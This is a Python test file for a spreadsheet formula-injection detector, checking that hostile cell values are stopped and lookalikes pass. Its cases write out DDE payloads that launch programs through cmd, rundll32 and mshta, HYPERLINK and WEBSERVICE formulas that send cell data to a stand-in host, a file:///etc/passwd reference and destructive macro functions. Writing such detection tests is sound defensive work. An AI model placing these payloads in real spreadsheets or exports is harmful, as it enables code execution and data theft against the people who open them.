"""Formulas for a spreadsheet, and what only starts like one."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.formula import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("=cmd|'/C calc'!A0", "formula.dde"),
        ("+cmd|' /C notepad'!A1", "formula.dde"),
        ("-2+3+cmd|' /C calc'!A0", "formula.dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "formula.dde"),
        ("\t=rundll32|'URL.dll,OpenURL calc.exe'!A", "formula.dde"),
        ("x\",\"=cmd|'/C calc'!A0", "formula.dde"),
        ('=HYPERLINK("http://evil.example?x="&A1,"click")', "formula.fetch"),
        ('=importxml("http://evil.example","//a")', "formula.fetch"),
        ('="1"&WEBSERVICE("http://evil.example")', "formula.fetch"),
        ('+HYPERLINK("http://evil.example","x")', "formula.fetch"),
        ('\uff1dHYPERLINK("http://evil.example")', "formula.fetch"),
        ("='file:///etc/passwd'#$passwd.A1", "formula.file"),
        ("=SUM(A1:A9)", "formula.function"),
        ("@SUM(A1)", "formula.function"),
    ],
)
def test_formulas_are_stopped(text: str, rule: str) -> None:
    assert rule in [each.rule for _, each in SUSPECTS.judge(text, "body") if each.score >= STOPS]


@pytest.mark.parametrize(
    "text",
    [
        "+49 170 1234567",
        "+1 (555) 010-9999",
        "-12.50",
        "-- \nBest regards,\nAnna",
        "@alice can you look (again)?",
        "=)",
        "- item one\n- sum of two (see notes)",
        "-sum(x)",
        "@max(3)",
        "+call(me)",
        "+if (you want)",
        "=== if (x) ===",
        "- cmd | foo!",
        "-webkit-image(x)",
        "@media (max-width: 3px)",
        "foo;-abs(x)",
        "E = m c^2",
    ],
)
def test_what_only_starts_like_one_passes(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('=FOPEN("a.txt",3)', "formula.macro"),
        ('=EXECUTE(1,"run")', "formula.fetch"),
        ('=FILE.DELETE("a.txt")', "formula.macro"),
        ('+ON.TIME(1,"a")', "formula.macro"),
        ("=GET.CELL(5)", "formula.macro"),
        ("=DDE(soffice;a.ods;b1)", "formula.fetch"),
        ('{ DDEAUTO c:\\\\a.exe "b" }', "formula.dde"),
        ('ddeauto excel "a"', "formula.dde"),
        ("='D:\\a\\[b.xlsm]c'!$B2", "formula.file"),
        ("=[b.ods]c!B2", "formula.file"),
        ("=SORT(A1:A9)", "formula.function"),
        ("=STDEV.S(A1:A9)", "formula.function"),
        ('DDE("excel";"b.xls";"r1c1")', "formula.dde"),
        ("= m s h t a   | 'a.hta' ! b", "formula.dde"),
    ],
)
def test_macros_other_books_and_any_function_are_stopped(text: str, rule: str) -> None:
    assert rule in [each.rule for _, each in SUSPECTS.judge(text, "body") if each.score >= STOPS]


@pytest.mark.parametrize(
    "text",
    [
        "= TBD (2 weeks)",
        "=OK (1)",
        "-OPEN(3)",
        "+RUN(1)",
        "@FILES(2)",
        "see [b.xlsx] first!",
        "{DDE}",
        'dde "a"',
        "DDE (dynamic data exchange) is old",
        "= draft | final ! see below",
        "{add 5}",
        "Total =SUM of all",
    ],
)
def test_words_that_macros_have_too_pass(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS


def test_a_function_passes_where_formulas_are_asked_for() -> None:
    assert SUSPECTS.score("=MAX(A1:A9)", "body", name="formula") < STOPS
    assert SUSPECTS.score("=MAX(A1:A9)", "body", name="title") >= STOPS
    assert SUSPECTS.score("=cmd|'/C calc'!A0", "body", name="formula") >= STOPS
